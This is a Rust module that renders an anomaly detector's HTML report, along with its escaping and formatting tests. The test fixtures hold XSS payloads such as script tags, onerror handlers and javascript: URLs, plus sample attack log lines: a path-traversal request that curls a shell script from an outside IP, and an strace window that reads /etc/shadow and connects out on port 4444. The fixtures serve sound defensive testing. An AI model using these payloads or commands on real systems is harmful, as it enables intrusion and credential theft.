//! The HTML report: one self-contained page (no network access when opened)
//! that shows a run for people who would rather look than read.
//!
//! From data to page, one file each:
//!
//! - `data.rs`: [`Page`], what a report shows, as plain data: raw text and
//!   numbers. The commands fill it: a scoring run through
//!   [`builder::PageBuilder`], `honk eval` by hand.
//! - `builder.rs`: [`builder::PageBuilder`], a [`super::Sink`] like the
//!   terminal and JSON printers, that gathers a scoring run's anomalies and
//!   incidents and, with the summary's per-input sketches and the baseline,
//!   makes its [`Page`] (the map's projection, the timelines).
//! - `view.rs`: the [`Page`] turned into what the template prints: text cut
//!   and made safe, numbers formatted, plots drawn.
//! - `plots.rs`: the plots, as inline SVG.
//! - `text.rs`: how text and numbers read, and the one HTML escaper.
//! - `report.html.j2`: the page's markup, style and script.
//!
//! One escaping path: every text reaches the page HTML-escaped by minijinja's
//! `HtmlEscape`, through the template's auto-escaping or, for the SVG the
//! template inserts as it is, through `text::push_escaped`, which calls it.
//! Rendering reads, scores and projects nothing.

use std::fmt;

use minijinja::{AutoEscape, Environment, UndefinedBehavior};

pub mod builder;
mod data;
mod plots;
mod text;
mod view;

pub use data::{
    EvalPlots, Map, MapPoint, Page, PageAnomaly, PageIncident, PageInput, PageThread, Timeline, TimelineBin,
    MAX_ANOMALIES, MAX_INCIDENTS,
};
pub use text::{CONTEXT_CHARS, HOVER_CHARS, TEXT_CHARS};
use view::View;

/// The page's template: markup, style and script. Everything it prints from
/// the [`View`] is HTML-escaped by its auto-escaping, except the plots' SVG,
/// whose text `plots.rs` escaped with the same escaper.
const TEMPLATE: &str = include_str!("report.html.j2");

/// Why a page could not be rendered. Neither should happen with any [`Page`]:
/// they would be bugs in the template or the plots.
#[derive(Debug, thiserror::Error)]
pub enum HtmlError {
    /// The template engine failed to load or render the template.
    #[error("the HTML report template failed: {0}")]
    Template(#[from] minijinja::Error),
    /// Writing a plot's SVG into a string failed.
    #[error("could not write a plot of the HTML report")]
    Format(#[from] fmt::Error),
}

/// Renders `page` as one self-contained HTML5 document: inline style, inline
/// SVG plots and a little script, nothing loaded from the network. All text of
/// the page is escaped, and the output grows with the size of the page only.
pub fn render(page: &Page) -> Result<String, HtmlError> {
    let view = View::new(page)?;
    let mut env = Environment::new();
    env.set_auto_escape_callback(|_| AutoEscape::Html);
    env.set_undefined_behavior(UndefinedBehavior::Strict);
    env.set_trim_blocks(true);
    env.set_lstrip_blocks(true);
    env.add_template("report.html", TEMPLATE)?;
    Ok(env.get_template("report.html")?.render(&view)?)
}

#[cfg(test)]
mod tests {
    use super::plots::N;
    use super::text::threshold_text;
    use super::*;
    use crate::report::thousands;

    const HOSTILE: [&str; 8] = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "</script>",
        "]]>",
        "<!--",
        "-->",
        "</textarea><svg onload=alert(1)>",
        "nul\0 esc\x1b[31m rlo\u{202e} http://evil.example/x https://evil.example/y javascript:alert(1)",
    ];

    fn hostile() -> String {
        HOSTILE.join(" ")
    }

    /// A small deterministic generator, for points that look scattered.
    struct Lcg(u64);

    impl Lcg {
        fn next(&mut self) -> f64 {
            self.0 = self
                .0
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            (self.0 >> 11) as f64 / (1u64 << 53) as f64
        }
    }

    /// A page with every section filled, `anomalies` anomalies, `points` map
    /// points a side and `bins` timeline bins; text is partly hostile.
    fn sample(anomalies: usize, points: usize, bins: usize) -> Page {
        let mut rng = Lcg(7);
        let lines = [
            "Accepted publickey for deploy from 10.0.0.5 port 52144 ssh2",
            "pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)",
            "Received disconnect from 10.0.0.5 port 52144:11: disconnected by user",
            "Connection closed by 10.0.0.5 port 52144 [preauth]",
        ];
        let odd = [
            "Invalid user admin from 203.0.113.9 port 40022",
            "error: maximum authentication attempts exceeded for root from 203.0.113.9 port 40022 ssh2 [preauth]",
            "GET /cgi-bin/../../bin/sh?c=curl%20http://203.0.113.9/x.sh HTTP/1.1",
        ];
        let mut list = Vec::new();
        for i in 0..anomalies {
            let score = 0.95 - 0.6 * rng.next();
            let line = 100 + 37 * i as u64;
            let window = i % 7 == 3;
            let text = if window {
                format!(
                    "{line}\topenat(AT_FDCWD, \"/etc/shadow\", O_RDONLY) = 3\n\
                     {}\tread(3, \"root:x:0:0\", 4096) = 1024\n\
                     {}\tconnect(4, {{sa_family=AF_INET, sin_port=htons(4444)}}, 16) = 0",
                    line + 1,
                    line + 2
                )
            } else if i % 5 == 1 {
                hostile()
            } else {
                odd[i % odd.len()].to_owned()
            };
            list.push(PageAnomaly {
                order: i as u64,
                source: if i % 2 == 0 {
                    "target/auth.log"
                } else {
                    "target/web-01.log"
                }
                .to_owned(),
                line,
                score,
                text,
                process: Some(if i % 3 == 0 { "sshd[812]" } else { "nginx[77]" }.to_owned()),
                before: if window {
                    Vec::new()
                } else {
                    vec![
                        (line - 2, lines[i % 4].to_owned()),
                        (line - 1, lines[(i + 1) % 4].to_owned()),
                    ]
                },
                after: if window {
                    Vec::new()
                } else {
                    vec![(line + 1, lines[(i + 2) % 4].to_owned())]
                },
                nearest: Some((
                    "baseline/auth.log".to_owned(),
                    4_812 + i as u64,
                    lines[(i + 3) % 4].to_owned(),
                )),
                window_last_line: window.then_some(line + 2),
                incident: Some(((i / 3) as u64 + 1, (i % 3) as u32 + 1)),
            });
        }
        let incidents: Vec<PageIncident> = (0..anomalies.div_ceil(3))
            .map(|k| PageIncident {
                id: k as u64 + 1,
                source: "target/auth.log".into(),
                line: 100 + 111 * k as u64,
                last_line: 174 + 111 * k as u64,
                records: 3,
                score: 0.9,
                threads: vec![812, 77],
                new: vec!["/etc/shadow".into(), hostile()],
            })
            .collect();
        list.sort_by(|a, b| b.score.total_cmp(&a.score));
        let cloud = |rng: &mut Lcg, n: usize, dx: f64, anomalous: bool| -> Vec<MapPoint> {
            (0..n)
                .map(|i| {
                    let r = rng.next().sqrt() * 2.0;
                    let t = rng.next() * std::f64::consts::TAU;
                    let anomaly = anomalous && i % 40 == 0;
                    let far = if anomaly { 3.0 } else { 0.0 };
                    MapPoint {
                        x: dx + far + r * t.cos(),
                        y: 0.6 * r * t.sin() - far / 2.0,
                        label: if i % 50 == 7 {
                            hostile()
                        } else {
                            lines[i % 4].to_owned()
                        },
                        score: if anomaly { 0.8 } else { 0.1 * rng.next() },
                        anomaly,
                    }
                })
                .collect()
        };
        let map = Map {
            baseline: cloud(&mut rng, points, 0.0, false),
            target: cloud(&mut rng, points, 0.7, true),
            explained: [0.41, 0.17],
            baseline_total: points as u64 * 5,
            target_total: points as u64 * 3,
        };
        let timeline = |rng: &mut Lcg, source: &str| Timeline {
            source: source.to_owned(),
            bins: (0..bins as u64)
                .map(|i| {
                    let hot = i % 17 == 5;
                    TimelineBin {
                        first_line: 1 + i * 50,
                        last_line: 50 + i * 50,
                        max_score: if hot {
                            0.5 + 0.45 * rng.next()
                        } else {
                            0.25 * rng.next()
                        },
                        records: 50,
                        anomalies: u64::from(hot) * 2,
                    }
                })
                .collect(),
        };
        let normal: Vec<f64> = (0..400).map(|_| 0.35 * rng.next()).collect();
        let attack: Vec<f64> = (0..120).map(|_| 0.2 + 0.75 * rng.next()).collect();
        let mut roc: Vec<(f64, f64)> = (0..=50)
            .map(|i| {
                let f = f64::from(i) / 50.0;
                (f, 1.0 - (1.0 - f).powi(6))
            })
            .collect();
        roc.insert(0, (0.0, 0.0));
        Page {
            title: "honk diff".into(),
            version: "0.1.0".into(),
            generated: "2025-01-31 12:00:00 UTC".into(),
            summary: vec![
                ("threshold".into(), "0.3".into()),
                ("k".into(), "5".into()),
                ("baseline records".into(), "1,204,551".into()),
                ("target records".into(), "88,120".into()),
                ("anomalies".into(), format!("{}", anomalies * 2)),
            ],
            inputs: vec![
                PageInput {
                    name: "baseline/auth.log".into(),
                    format: "syslog".into(),
                    lines: 1_204_551,
                    records: 1_204_551,
                },
                PageInput {
                    name: "target/auth.log".into(),
                    format: "syslog".into(),
                    lines: 60_000,
                    records: 59_998,
                },
                PageInput {
                    name: "target/web-01.log".into(),
                    format: "nginx".into(),
                    lines: 28_122,
                    records: 28_122,
                },
            ],
            anomalies: list,
            anomalies_total: anomalies as u64 * 2,
            incidents_total: incidents.len() as u64,
            incidents,
            threshold: 0.3,
            map: Some(map),
            timelines: vec![
                timeline(&mut rng, "target/auth.log"),
                timeline(&mut rng, "target/web-01.log"),
            ],
            threads: vec![
                PageThread {
                    source: "target/app.strace".into(),
                    thread: 4412,
                    records: 12_004,
                    anomalies: 17,
                },
                PageThread {
                    source: "target/app.strace".into(),
                    thread: 4419,
                    records: 881,
                    anomalies: 2,
                },
            ],
            new_syscalls: vec![("ptrace".into(), 3), ("memfd_create".into(), 1)],
            eval: Some(EvalPlots {
                auc: 0.912,
                roc,
                normal_scores: normal,
                attack_scores: attack,
                threshold: 0.3,
            }),
        }
    }

    fn ids(html: &str) -> Vec<&str> {
        html.split(" id=\"")
            .skip(1)
            .filter_map(|rest| rest.split('"').next())
            .collect()
    }

    /// Values of numeric SVG attributes hold only numbers and path commands.
    fn assert_numeric_attributes(html: &str) {
        for attr in [
            " x=\"",
            " y=\"",
            " cx=\"",
            " cy=\"",
            " r=\"",
            " width=\"",
            " height=\"",
            " d=\"",
            " points=\"",
        ] {
            for rest in html.split(attr).skip(1) {
                let value = rest.split('"').next().unwrap_or("");
                assert!(
                    !value.is_empty() && value.chars().all(|c| c.is_ascii_digit() || " .,-MLHVhlvz".contains(c)),
                    "bad value {attr}{value}\""
                );
            }
        }
    }

    #[test]
    fn hostile_text_is_escaped_everywhere() {
        let mut page = sample(40, 200, 50);
        // Hostile text in every text field the page has.
        let h = hostile();
        page.title = h.clone();
        page.version = h.clone();
        page.generated = h.clone();
        page.summary.push((h.clone(), h.clone()));
        page.inputs[0].name = h.clone();
        page.inputs[0].format = h.clone();
        for a in &mut page.anomalies {
            a.source = h.clone();
            a.process = Some(h.clone());
            a.text = h.clone();
            a.before.push((1, h.clone()));
            a.after.push((2, h.clone()));
            a.nearest = Some((h.clone(), 3, h.clone()));
        }
        if let Some(map) = &mut page.map {
            map.target[0].label = h.clone();
            map.baseline[0].label = h.clone();
        }
        page.timelines[0].source = h.clone();
        page.threads[0].source = h.clone();
        page.new_syscalls.push((h.clone(), 1));
        let html = render(&page).unwrap();
        assert!(!html.contains("<script>alert"));
        assert!(!html.contains("<img"));
        assert!(!html.contains("<svg onload"));
        assert!(!html.contains("</textarea"));
        assert!(!html.contains("]]>"));
        assert!(!html.contains("<!--"));
        assert!(!html.contains("-->"));
        assert!(!html.contains('\0'));
        assert!(!html.contains('\x1b'));
        assert!(!html.contains('\u{202e}'));
        assert_eq!(html.matches("<script").count(), 1, "only the page's own script");
        assert_eq!(html.matches("</script").count(), 1);
        assert!(html.contains("&lt;script&gt;alert(1)&lt;&#x2f;script&gt;"));
        assert!(html.contains("nul\\x00 esc\\x1b[31m rlo\\u{202e}"));
        assert_numeric_attributes(&html);
    }

    #[test]
    fn the_page_holds_no_url() {
        let html = render(&sample(50, 100, 20)).unwrap();
        let lower = html.to_ascii_lowercase();
        assert!(!lower.contains("http://") && !lower.contains("https://"));
        assert!(!lower.contains("://"), "not even file:// or a scheme the text carried");
        assert!(!lower.contains("xmlns"));
        assert!(!TEMPLATE.contains("://"), "the template's own text has no URL");
        // The URLs the log lines carried are still readable.
        assert!(html.contains("http:&#x2f;&#x2f;evil.example"));
    }

    #[test]
    fn every_required_id_is_there_with_and_without_the_optional_sections() {
        let full = render(&sample(10, 50, 10)).unwrap();
        for id in [
            "summary",
            "incidents",
            "anomalies",
            "map",
            "timeline",
            "roc",
            "anomaly-controls",
            "threads",
            "new-syscalls",
        ] {
            assert!(ids(&full).contains(&id), "{id} missing from the full page");
        }
        let mut bare = sample(0, 0, 0);
        bare.map = None;
        bare.eval = None;
        bare.timelines.clear();
        bare.threads.clear();
        bare.new_syscalls.clear();
        bare.anomalies_total = 0;
        bare.incidents.clear();
        let html = render(&bare).unwrap();
        let found = ids(&html);
        for id in ["summary", "incidents", "anomalies", "map", "timeline"] {
            assert!(found.contains(&id), "{id} missing from the bare page");
        }
        assert!(!found.contains(&"roc"));
        assert!(html.contains("No record scored above 0.30"));
        assert!(html.contains("No incident"));
        // The page leads with the map, the timeline and the incidents, then lists every anomaly.
        let at = |id: &str| full.find(&format!(" id=\"{id}\"")).unwrap_or(usize::MAX);
        assert!(at("map") < at("timeline") && at("timeline") < at("incidents") && at("incidents") < at("anomalies"));
        assert!(
            full.contains("incident 1: 3 records, threads 812 77; new: "),
            "an incident's summary line"
        );
        assert!(html.contains("No map"));
        assert!(html.contains("No timeline"));
        let mut unique = found.clone();
        unique.sort_unstable();
        unique.dedup();
        assert_eq!(unique.len(), found.len(), "ids are unique");
        let full_ids = ids(&full);
        let mut unique = full_ids.clone();
        unique.sort_unstable();
        unique.dedup();
        assert_eq!(unique.len(), full_ids.len(), "ids are unique");
    }

    #[test]
    fn an_empty_page_renders() {
        let html = render(&Page::default()).unwrap();
        assert!(html.starts_with("<!DOCTYPE html>"));
        assert!(html.trim_end().ends_with("</html>"));
        assert!(html.contains("<title>honk report: report</title>"));
        for id in ["summary", "anomalies", "map", "timeline"] {
            assert!(ids(&html).contains(&id), "{id}");
        }
        assert_numeric_attributes(&html);
    }

    #[test]
    fn numbers_are_formatted_and_non_finite_ones_do_not_break_the_plots() {
        let mut page = sample(5, 20, 10);
        page.threshold = f64::NAN;
        page.anomalies[0].score = f64::NAN;
        page.anomalies[1].score = f64::INFINITY;
        if let Some(map) = &mut page.map {
            map.baseline[0].x = f64::NAN;
            map.target[0].y = f64::INFINITY;
            map.target[1].score = f64::NEG_INFINITY;
            map.explained = [f64::NAN, f64::INFINITY];
        }
        page.timelines[0].bins[0].max_score = f64::NAN;
        page.timelines[0].bins[1].max_score = f64::INFINITY;
        page.timelines[0].bins[2].max_score = -3.0;
        if let Some(eval) = &mut page.eval {
            eval.auc = f64::NAN;
            eval.roc.push((f64::NAN, 0.5));
            eval.normal_scores.push(f64::NAN);
            eval.attack_scores.push(f64::INFINITY);
            eval.threshold = f64::NEG_INFINITY;
        }
        let html = render(&page).unwrap();
        let markup = html.split("<script").next().unwrap_or("");
        assert!(!markup.contains("NaN"));
        assert!(!markup.contains("inf"), "no inf, -inf or infinity");
        assert_numeric_attributes(&html);
        assert!(html.contains("data-score=\"0.0000\""));
        assert!(html.contains(">1,204,551<"), "counts get thousands separators");
        assert!(
            html.contains(">component 1</text>"),
            "no share of variance when it is unknown"
        );
        assert!(render(&sample(1, 5, 1))
            .unwrap()
            .contains(">component 1 (41% of the baseline&#x27;s variance)<"));

        // Every point at the same place, or no scores at all, still draws.
        let mut flat = sample(1, 5, 1);
        if let Some(map) = &mut flat.map {
            for p in map.baseline.iter_mut().chain(map.target.iter_mut()) {
                (p.x, p.y) = (1.0, 1.0);
            }
        }
        if let Some(eval) = &mut flat.eval {
            eval.normal_scores = vec![0.5; 3];
            eval.attack_scores.clear();
            eval.roc.clear();
        }
        assert_numeric_attributes(&render(&flat).unwrap());
    }

    #[test]
    fn thresholds_keep_their_digits_and_counts_get_separators() {
        assert_eq!(threshold_text(0.3), "0.30");
        assert_eq!(threshold_text(0.325), "0.325");
        assert_eq!(threshold_text(f64::NAN), "0.00");
        assert_eq!(thousands(0), "0");
        assert_eq!(thousands(999), "999");
        assert_eq!(thousands(1_000), "1,000");
        assert_eq!(thousands(1_204_551), "1,204,551");
        assert_eq!(N(-0.01).to_string(), "0.0");
        assert_eq!(N(f64::INFINITY).to_string(), "0.0");
    }

    #[test]
    fn long_text_is_cut_in_the_list_and_shorter_on_hover() {
        let mut page = sample(1, 1, 1);
        let long = "x".repeat(TEXT_CHARS * 3);
        page.anomalies[0].text = long.clone();
        if let Some(map) = &mut page.map {
            map.target[0].label = "y".repeat(HOVER_CHARS * 10);
        }
        let html = render(&page).unwrap();
        assert!(html.contains(&format!("{}…<", "x".repeat(TEXT_CHARS))));
        assert!(!html.contains(&"x".repeat(TEXT_CHARS + 1)));
        assert!(html.contains(&format!("{}…<", "y".repeat(HOVER_CHARS))));
        assert!(!html.contains(&"y".repeat(HOVER_CHARS + 1)));
    }

    #[test]
    fn the_list_is_highest_score_first_and_carries_the_file_order() {
        let mut page = sample(3, 1, 1);
        for (i, (score, order)) in [(0.4, 0), (0.9, 2), (0.6, 1)].into_iter().enumerate() {
            page.anomalies[i].score = score;
            page.anomalies[i].order = order;
        }
        page.anomalies_total = 10;
        let html = render(&page).unwrap();
        let scores: Vec<&str> = html
            .split("data-score=\"")
            .skip(1)
            .filter_map(|r| r.split('"').next())
            .collect();
        assert_eq!(scores, ["0.9000", "0.6000", "0.4000"]);
        assert!(html.contains("data-score=\"0.9000\" data-rank=\"0\" data-order=\"2\""));
        assert!(html.contains("3 of 3 anomalies shown"));
        assert!(html.contains("The list is capped: it holds the 3 highest-scoring of 10 anomalies."));
    }

    #[test]
    fn a_big_page_renders_fast_and_stays_small() {
        let page = sample(MAX_ANOMALIES, 2_000, 2_000);
        let start = std::time::Instant::now();
        let html = render(&page).unwrap();
        let elapsed = start.elapsed();
        println!(
            "big page: {} anomalies, {} map points, {} timeline bins x {}: {} bytes in {:?}",
            page.anomalies.len(),
            4_000,
            2_000,
            page.timelines.len(),
            html.len(),
            elapsed
        );
        assert!(html.len() < 20_000_000);
        assert_eq!(html.matches("<li class=\"anomaly\"").count(), MAX_ANOMALIES);
    }

    /// Writes a sample report for looking at in a browser:
    /// `cargo test --release html::tests::write_sample_report -- --ignored`.
    #[test]
    #[ignore]
    fn write_sample_report() {
        for (name, page) in [
            ("sample-report.html", sample(60, 600, 300)),
            ("sample-report-short.html", sample(3, 600, 300)),
            ("sample-report-big.html", sample(MAX_ANOMALIES, 2_000, 2_000)),
            ("sample-report-empty.html", Page::default()),
        ] {
            let path = std::env::temp_dir().join(name);
            std::fs::write(&path, render(&page).unwrap()).unwrap();
            println!("wrote {}", path.display());
        }
    }
}
